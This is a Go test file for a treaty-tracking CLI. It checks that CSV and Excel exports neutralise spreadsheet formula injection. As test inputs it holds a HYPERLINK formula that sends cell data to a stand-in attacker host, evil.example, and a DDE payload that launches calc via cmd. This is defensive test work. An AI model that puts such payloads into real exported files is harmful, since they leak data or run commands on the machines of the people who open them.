package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestCSVFormulas: text a user stored (a decision's title, a mandate's
// owner and notes) that a spreadsheet would run as a formula is written
// to every CSV as text, with a leading quote.
func TestCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "f.db")
	const link = `=HYPERLINK("https://evil.example/?"&A1,"see")`
	text := "Decision MC-7/2: " + link + "\n\nThe Conference of the Parties,\n\n1. Requests the secretariat to report at its eighth meeting.\n"
	if code, _, errs := runAccord(t, "ingest", "--db", db, "--instrument", "minamata", writeFile(t, dir, "f.txt", []byte(text))); code != 0 {
		t.Fatal(errs)
	}
	var ms []struct{ ID int64 }
	_, out, _ := runAccord(t, "mandates", "list", "--db", db, "--format", "json")
	if err := json.Unmarshal([]byte(out), &ms); err != nil || len(ms) != 1 {
		t.Fatalf("mandates = %s (%v)", out, err)
	}
	if code, _, errs := runAccord(t, "mandates", "set", "--db", db, fmt.Sprint(ms[0].ID), "--owner", link, "--note", "-2+3+cmd|' /C calc'!A0", "--who", "@jd"); code != 0 {
		t.Fatal(errs)
	}
	for _, args := range [][]string{
		{"decisions", "list", "--db", db, "--format", "csv"},
		{"mandates", "list", "--db", db, "--format", "csv"},
		{"report", "implementation", "--db", db, "--instrument", "minamata", "--meeting", "COP-7", "--format", "csv"},
	} {
		code, out, errs := runAccord(t, args...)
		if code != 0 {
			t.Fatalf("%s: %s", args, errs)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", args, err)
		}
		kept := false
		for _, row := range rows {
			for _, cell := range row {
				kept = kept || cell == "'"+link
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would be read as a formula", args[:2], cell)
				}
			}
		}
		if !kept {
			t.Errorf("%s: no cell holds %s after a quote:\n%s", args[:2], link, out)
		}
	}
}

// TestXLSX: the lists and the report write Excel workbooks holding the
// rows their CSV holds, stored text as text and never a formula.
func TestXLSX(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "x.db")
	const link = `=HYPERLINK("https://evil.example/?"&A1,"see")`
	text := "Decision MC-7/2: " + link + "\n\nThe Conference of the Parties,\n\n1. Requests the secretariat to report at its eighth meeting.\n\n2. Invites Parties to submit views.\n"
	if code, _, errs := runAccord(t, "ingest", "--db", db, "--instrument", "minamata", writeFile(t, dir, "x.txt", []byte(text))); code != 0 {
		t.Fatal(errs)
	}
	for _, args := range [][]string{
		{"decisions", "list", "--db", db},
		{"mandates", "list", "--db", db},
		{"report", "implementation", "--db", db, "--instrument", "minamata", "--meeting", "COP-7"},
	} {
		code, out, errs := runAccord(t, append(args, "--format", "csv")...)
		if code != 0 {
			t.Fatalf("%s: %s", args, errs)
		}
		want, _ := csv.NewReader(strings.NewReader(out)).ReadAll()
		code, out, errs = runAccord(t, append(args, "--format", "xlsx")...)
		if code != 0 {
			t.Fatalf("%s xlsx: %s", args, errs)
		}
		f, err := excelize.OpenReader(strings.NewReader(out))
		if err != nil {
			t.Fatalf("%s xlsx: %v", args[:2], err)
		}
		sheet := f.GetSheetName(0)
		rows, _ := f.GetRows(sheet)
		if len(rows) != len(want) || len(want) < 2 || !slices.Equal(rows[0], want[0]) && args[0] != "mandates" {
			t.Errorf("%s: xlsx rows %q, csv rows %q", args[:2], rows, want)
		}
		kept := false
		for i, row := range rows {
			for j, cell := range row {
				kept = kept || cell == link
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fm, _ := f.GetCellFormula(sheet, name); fm != "" {
					t.Errorf("%s: %s is the formula %q", args[:2], name, fm)
				}
				if strings.HasPrefix(cell, "=") && cell != link {
					t.Errorf("%s: %s = %q", args[:2], name, cell)
				}
			}
		}
		if args[0] == "decisions" && !kept {
			t.Errorf("decisions xlsx: no cell holds the title %s as written: %q", link, rows)
		}
		f.Close()
	}
}
